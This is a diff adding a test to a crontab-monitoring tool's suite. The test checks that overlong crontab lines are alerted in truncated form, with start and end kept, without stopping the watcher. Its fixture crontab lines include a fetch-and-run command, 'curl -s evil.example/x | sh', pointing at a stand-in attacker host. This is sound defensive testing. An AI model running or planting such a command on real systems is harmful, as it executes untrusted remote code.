@@ -162,3 +162,34 @@ describe('an alert whose answer was lost on the way', () => {
     }
   });
 });
+
+describe('a crontab line longer than an alert may be', () => {
+  it('is alerted with its start and its end, what lies between left out, and never stops the watcher', async () => {
+    // Any user may write such a line in their own crontab: refused whole, the alert stayed first in
+    // the queue and ended every run of the watcher, which then told nothing more, of any crontab.
+    const padding = Array.from({ length: 2_500 }, (_, i) => `w${i}`).join(' ');
+    const { folder, file } = crontabFolder('0 1 * * * /a.sh\n');
+    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
+    const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
+    expect((await watchOnce()).status).toBe(0);
+    writeFileSync(file, `0 1 * * * /a.sh\n* * * * * echo ${padding}; curl -s evil.example/x | sh\n`);
+    const added = await watchOnce();
+    expect(added.status, added.stderr).toBe(0);
+    writeFileSync(file, `0 1 * * * /a.sh\n* * * * * echo ${padding}; curl -s evil.example/y | sh\n`);
+    const altered = await watchOnce();
+    expect(altered.status, altered.stderr).toBe(0);
+    expect(altered.stdout).toMatch(/delivered: altered for /);
+    const stored = agent.store.db
+      .prepare("SELECT command, previous_command FROM server_alerts WHERE command LIKE '%evil.example%' ORDER BY id")
+      .all() as Array<{ command: string; previous_command: string | null }>;
+    expect(stored).toHaveLength(2);
+    for (const text of [stored[0].command, stored[1].command, stored[1].previous_command!]) {
+      expect(text.length).toBeLessThanOrEqual(10_000);
+      expect(text).toMatch(/^\* \* \* \* \* echo w0 w1 w2 /);
+      expect(text).toMatch(/ \(\d[\d,]* characters left out\) /);
+    }
+    expect(stored[0].command).toMatch(/; curl -s evil\.example\/x \| sh$/);
+    expect(stored[1].command).toMatch(/; curl -s evil\.example\/y \| sh$/);
+    expect(stored[1].previous_command).toMatch(/; curl -s evil\.example\/x \| sh$/);
+  });
+});
